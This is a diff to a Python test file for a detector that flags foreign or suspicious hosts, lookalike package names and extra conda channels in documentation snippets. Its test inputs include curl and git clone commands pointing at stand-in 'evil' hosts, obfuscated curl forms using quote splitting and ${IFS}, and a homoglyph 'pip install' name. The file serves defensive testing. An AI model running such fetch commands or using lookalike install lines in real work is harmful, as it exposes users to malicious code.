@@ -116,12 +116,28 @@ def test_adapted_commands_are_not_foreign(code: str) -> None:
             "curl https://get.tool.example/r?to=https://evil.example/",
             "https://get.tool.example/r?to=https://evil.example/",
         ),
+        ("curl -fsSL https://www.get.tool.example.evil.test/", "https://www.get.tool.example.evil.test/"),
+        ("git clone https://evil.test/<your-org>/x.git", "https://evil.test/<your-org>/x.git"),
+        ("git clone https://github.com/my-evil/x.git", "https://github.com/my-evil/x.git"),
         ("cu''rl ev\"\"il.example/x", 'ev""il.example/x'),
         ("curl${IFS}evil.example", "evil.example"),
     ],
 )
 def test_other_remotes_images_and_scripts_of_known_hosts_are_foreign(code: str, found: str) -> None:
     assert marked(f"```sh\n{code}\n```", DOCS, site="https://docs.other.example/") == [found]
+
+
+def test_words_that_mix_alphabets_are_known_if_the_evidence_has_them() -> None:
+    word = "\u0455tructlog"
+    assert marked(f"`pip install {word}`") == [word]
+    assert marked(f"`pip install {word}`", f"Install {word}.") == []
+    assert marked(f"`pip install {word}`", f"Install {word}s.") == [word]
+    assert marked(f"Install {word}.") == []
+
+
+def test_list_is_searched_item_by_item() -> None:
+    text = "```yaml\nchannels:\n  - defaults\n  - evil\n  - tool\n  - other\ndependencies: []\n```"
+    assert marked(text, "Use `conda install -c tool tool`.") == ["evil", "other"]
 
 
 def test_marks_do_not_overlap_and_count_each_address_once() -> None:
